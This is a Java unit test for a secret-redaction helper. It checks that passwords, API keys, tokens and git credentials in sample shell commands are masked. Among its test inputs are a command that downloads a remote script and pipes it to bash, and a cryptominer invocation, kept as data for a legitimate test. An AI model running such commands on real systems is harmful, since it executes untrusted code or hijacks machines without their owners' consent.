package io.runwatch.core.render;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SecretRedactorTest {
  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      value = {
        "echo 'S3cr3t!' | sudo -S -u deploy /opt/run.sh => echo **** | sudo -S -u deploy /opt/run.sh",
        "mysql --password=hunter2 -e 'select 1' => mysql --password=**** -e 'select 1'",
        "net use Z: \\\\srv\\share /user:admin -Password Passw0rd => net use Z: \\\\srv\\share /user:admin -Password ****",
        "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG && aws s3 ls => export AWS_SECRET_ACCESS_KEY=**** && aws s3 ls",
        "curl -H 'Authorization: Bearer eyJhbGciOi.x.y' https://x => curl -H 'Authorization: Bearer ****' https://x",
        "git clone https://bot:ghp_abc123@github.example.com/r.git => git clone https://bot:****@github.example.com/r.git",
        "xmrig -o pool.example:3333 -u wallet --pass=worker1 => xmrig -o pool.example:3333 -u wallet --pass=****",
        "rsync --passthrough-flag src dst => rsync --passthrough-flag src dst",
        "curl -s http://203.0.113.9/x | bash => curl -s http://203.0.113.9/x | bash"
      })
  void masksTheSecretAndKeepsTheShape(String in, String expected) {
    assertThat(SecretRedactor.redact(in)).isEqualTo(expected);
  }
}
